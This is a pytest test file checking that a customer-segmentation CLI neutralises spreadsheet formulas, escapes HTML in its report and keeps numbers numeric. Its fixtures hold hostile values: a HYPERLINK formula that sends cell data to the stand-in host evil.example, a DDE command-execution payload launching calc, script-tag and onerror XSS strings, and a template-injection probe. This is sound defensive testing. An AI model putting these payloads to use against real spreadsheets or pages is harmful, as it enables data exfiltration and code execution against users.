"""Outputs are safe to open: spreadsheet formulas neutralised, numbers kept numbers, HTML escaped."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import fastexcel
import pytest
from typer.testing import CliRunner

from custseg._atomic import FORMULA_TRIGGERS, NEUTRAL_PREFIX, neutralise_cell, restore_cell
from custseg.cli import app

runner = CliRunner()
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
               "<script>alert('id')</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "normal"]
HOSTILE_PRODUCTS = ["=cmd|' /C calc'!A0", "<script>alert('product')</script>", "+SUM(1)", "@x", "-1", "</textarea><b>bold</b>"]
MARKUP = ("<script>alert(", "<img src=x", "</textarea><b>", "onerror=alert(1)>")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    rows = [["cust", "inv", "prod", "qty", "price"]]
    for i in range(200):
        customer = HOSTILE_IDS[i % len(HOSTILE_IDS)] + ("" if i < 10 else f" {i % 30}")
        rows.append([customer, f"i{i}", HOSTILE_PRODUCTS[i % len(HOSTILE_PRODUCTS)], str(1 + i % 4), str(3 + (i % 30) ** 2)])
    data = folder / "hostile.csv"
    with data.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    result = runner.invoke(app, ["run", str(data), "--customer", "cust", "--order", "inv", "--product", "prod",
                                 "--quantity", "qty", "--price", "price", "--k", "3", "-o", str(folder / "out")])
    assert result.exit_code == 0, result.output
    return folder / "out"


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_csv_cell_from_data_is_inert_and_numbers_stay_numbers(hostile_run):
    negative_numbers = 0
    for path in hostile_run.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell.startswith(FORMULA_TRIGGERS):
                        assert is_number(cell), f"{path.name}: live formula-like cell {cell!r}"
                        negative_numbers += 1
    assert negative_numbers > 0  # z-scores: negative numbers are written as numbers, not as text
    ids = {line.split(",", 1)[0] for line in (hostile_run / "assignments.csv").read_text(encoding="utf-8").splitlines()}
    assert "'=HYPERLINK(\"\"http://evil.example/?\"\"&A1" in "".join(ids) or any(i.startswith('"\'=HYPERLINK') for i in ids)


def test_neutralised_ids_come_back_exactly(hostile_run):
    import pandas as pd

    from custseg._atomic import restore_frame

    frame = restore_frame(pd.read_csv(hostile_run / "assignments.csv", dtype={"customer_id": str}, keep_default_na=False))
    assert set(HOSTILE_IDS) - {"\tTAB", "\rCR"} <= set(frame["customer_id"])  # ids kept (stripped ones aside)


@pytest.mark.parametrize("value", ["=1", "+1", "-x", "@x", "\tx", "\rx", "'=1", "plain", "", "-", "'"])
def test_neutralise_then_restore_is_the_identity(value):
    cell = neutralise_cell(value)
    assert not (isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS))
    if value.startswith(NEUTRAL_PREFIX) and value[1:].startswith(FORMULA_TRIGGERS):
        pytest.skip("a value that already looks neutralised is ambiguous by design")
    assert restore_cell(cell) == value


def test_numbers_are_never_prefixed():
    for number in (-3.5, -1, 0, 2.0, float("-inf")):
        assert neutralise_cell(number) == number


def test_report_escapes_hostile_names(hostile_run):
    html = (hostile_run / "report.html").read_text(encoding="utf-8")
    for markup in MARKUP:
        assert markup not in html, markup
    assert "{{ 7*7 }}" in html  # shown as written: data is never evaluated as a template
    assert len(re.findall(r"<script\b", html)) == len(re.findall(r"</script>", html))  # no script opened by data


def test_pulled_workbooks_hold_text_not_formulas(tmp_path):
    from custseg._salesforce._writers import PageWriter

    writer = PageWriter(tmp_path / "pull.xlsx", ["Name", "Product"])
    writer.write([["a", "=HYPERLINK(1)"], ["b", "+1"], ["c", "-12"]])
    writer.close()
    sheet = fastexcel.read_excel(str(tmp_path / "pull.xlsx")).load_sheet(0, dtypes="string").to_pandas()
    assert sheet["Product"].tolist() == ["=HYPERLINK(1)", "+1", "-12"]  # kept exactly, as text cells
    import zipfile

    with zipfile.ZipFile(tmp_path / "pull.xlsx") as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula cell
